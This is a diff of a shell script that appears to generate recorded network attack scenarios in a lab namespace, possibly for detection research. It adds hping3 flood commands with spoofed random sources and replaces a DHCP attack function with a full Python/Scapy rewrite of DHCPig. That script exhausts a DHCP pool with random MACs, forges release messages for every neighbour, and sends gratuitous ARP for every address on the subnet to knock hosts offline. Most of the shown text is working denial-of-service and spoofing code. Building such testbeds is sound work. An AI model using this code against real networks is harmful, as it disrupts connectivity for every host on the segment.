@@ -1969,6 +1969,8 @@ scn_nmap_T3_default() { inns evil nmap -Pn -n "$nas"; }
 scn_nmap_sT_top() { inns evil nmap -sT -Pn -n "$nas"; }
 scn_nmap_T0_fewer() { inns evil timeout 40 nmap -sS -Pn -n -T1 -p 21,22,23,80,443 "$nas"; }
 scn_hping_ack_flood() { inns evil timeout 3 hping3 -q -A -p 80 -i u500 "$nas"; }
+scn_hping_ack_randsrc_flood() { inns evil timeout 3 hping3 -q -A -p 80 --rand-source -i u500 "$nas"; }
+scn_hping_ackpsh_data_flood() { inns evil timeout 3 hping3 -q -A -P -d 120 -p 443 -i u500 "$nas"; }
 scn_hping_fin_flood() { inns evil timeout 3 hping3 -q -F -p 80 -i u500 "$nas"; }
 scn_hping_xmas_flood() { inns evil timeout 3 hping3 -q -F -S -R -P -A -U -X -Y -p 80 -i u500 "$nas"; }
 scn_hping_syn_randsrc() { inns evil timeout 3 hping3 -q -S -p 80 --rand-source -i u500 "$nas"; }
@@ -2060,23 +2062,64 @@ for r in range(8):
     sendp([Ether(src=mac, dst=m)/ARP(op=2, hwsrc=mac, psrc="'$NET.1'", hwdst=m, pdst=ip) for ip, m in targets], iface="eth0")
     time.sleep(1)'
 }
-scn_dhcpig_release_decline() {
-	# DHCPig: an ARP scan for the neighbours, then a forged DHCPRELEASE for each (its MAC and address, to the
-	# server), then starvation from random MACs (frame and chaddr) with a DECLINE for every address offered.
-	scapy evil 'ans, _ = srp(Ether(dst="ff:ff:ff:ff:ff:ff")/ARP(pdst="'$NET'.0/24"), iface="eth0", timeout=2)
-for _, r in ans:
-    ip, m = r[ARP].psrc, r[ARP].hwsrc
-    if ip == "'$NET.1'": continue
-    sendp(Ether(src=m, dst="00:1a:a1:00:00:01")/IP(src=ip, dst="'$NET.1'")/UDP(sport=68, dport=67)/
-          BOOTP(ciaddr=ip, chaddr=mac2str(m), xid=RandInt())/DHCP(options=[("message-type", "release"), ("server_id", "'$NET.1'"), ("client_id", b"\x01" + mac2str(m)), "end"]), iface="eth0")
-for i in range(60):
-    m = str(RandMAC()); x = random.randint(1, 900000000)
-    p = srp1(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
-             BOOTP(chaddr=mac2str(m), xid=x, flags=0x8000)/DHCP(options=[("message-type", "discover"), ("client_id", b"\x01" + mac2str(m)), "end"]), iface="eth0", timeout=0.5)
-    if p and p.haslayer(BOOTP):
+# DHCPig (pig.py, kamorin/DHCPig), rewritten for the system's Python 3 with
+# its timings: a DISCOVER every 0.4 s from a random 00:0c:29 MAC (frame
+# source and chaddr), each OFFER answered with a REQUEST from that MAC;
+# with -n an ARP scan of the /24 from a random MAC claiming the server's
+# address, with -r a forged DHCPRELEASE for every neighbour found (its MAC
+# and address, to the server); pool exhausted after 6 s with no OFFER,
+# then with -g, 8 s later, a gratuitous ARP for every address of the /24,
+# each from a random MAC ("knock everyone offline").
+cat >"$tmp/pig.py" <<'EOF'
+import random, string, sys, threading, time
+from scapy.all import *
+conf.verb = 0; conf.checkIPaddr = False
+opts = sys.argv[1] if len(sys.argv) > 1 else ""
+state = {"sip": None, "smac": None, "last": 0.0, "dos": False}
+def rmac(): return "00:0c:29:%02x:%02x:%02x" % (random.randint(0, 0x7f), random.randint(0, 255), random.randint(0, 255))
+nodes = {}
+def on(p):
+    if ARP in p and p[ARP].op == 2 and p[ARP].pdst == state["sip"]:
+        nodes[p[ARP].hwsrc] = p[ARP].psrc
+    if DHCP in p and p[DHCP].options[0][1] == 2:
+        state["sip"], state["smac"], state["last"] = p[IP].src, p[Ether].src, time.time()
+        m = ":".join("%02x" % b for b in bytes(p[BOOTP].chaddr)[:6])
+        host = "".join(random.choice(string.ascii_uppercase + string.digits) for _ in range(8))
         sendp(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
-              BOOTP(chaddr=mac2str(m), xid=x, flags=0x8000)/DHCP(options=[("message-type", "decline"), ("requested_addr", p[BOOTP].yiaddr), ("server_id", "'$NET.1'"), ("client_id", b"\x01" + mac2str(m)), "end"]), iface="eth0")'
-}
+              BOOTP(chaddr=mac2str(m), xid=p[BOOTP].xid)/DHCP(options=[("message-type", "request"), ("server_id", p[IP].src), ("requested_addr", p[BOOTP].yiaddr), ("hostname", host), "end"]), iface="eth0")
+def sniffer():
+    while not state["dos"]:
+        sniff(iface="eth0", filter="arp or (udp and src port 67 and dst port 68)", prn=on, store=0, timeout=3)
+        if state["last"] and time.time() - state["last"] > 6: state["dos"] = True
+def discover():
+    while not state["dos"]:
+        m = rmac(); host = "".join(random.choice(string.ascii_uppercase + string.digits) for _ in range(8))
+        sendp(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+              BOOTP(chaddr=mac2str(m), xid=random.randint(1, 900000000))/DHCP(options=[("message-type", "discover"), ("hostname", host), "end"]), iface="eth0")
+        time.sleep(0.4)
+threading.Thread(target=sniffer, daemon=True).start()
+threading.Thread(target=discover, daemon=True).start()
+while state["sip"] is None: time.sleep(2)
+if "n" in opts: # srp's answers, read by the sniffer (srp beside it in threads hung)
+    m = rmac()
+    sendp([Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(hwsrc=m, psrc=state["sip"], pdst=a) for a in Net(state["sip"] + "/24")], iface="eth0")
+    time.sleep(8)
+if "r" in opts:
+    x = random.randint(1, 900000000)
+    for m, ip in list(nodes.items()):
+        sendp(Ether(src=m, dst=state["smac"])/IP(src=ip, dst=state["sip"])/UDP(sport=68, dport=67)/BOOTP(ciaddr=ip, chaddr=mac2str(m), xid=x)/
+              DHCP(options=[("message-type", "release"), ("server_id", state["sip"]), ("client_id", b"\x01" + mac2str(m)), "end"]), iface="eth0")
+deadline = time.time() + 90
+while not state["dos"] and time.time() < deadline: time.sleep(1)
+if "g" in opts:
+    time.sleep(8)
+    base = state["sip"].rsplit(".", 1)[0]
+    for i in range(0, 256):
+        m = rmac(); ip = "%s.%d" % (base, i)
+        sendp(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(hwsrc=m, psrc=ip, hwdst="00:00:00:00:00:00", pdst=ip), iface="eth0")
+EOF
+scn_dhcpig_default() { inns evil "$py" "$tmp/pig.py"; }
+scn_dhcpig_release_garp() { inns evil "$py" "$tmp/pig.py" nrg; }
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
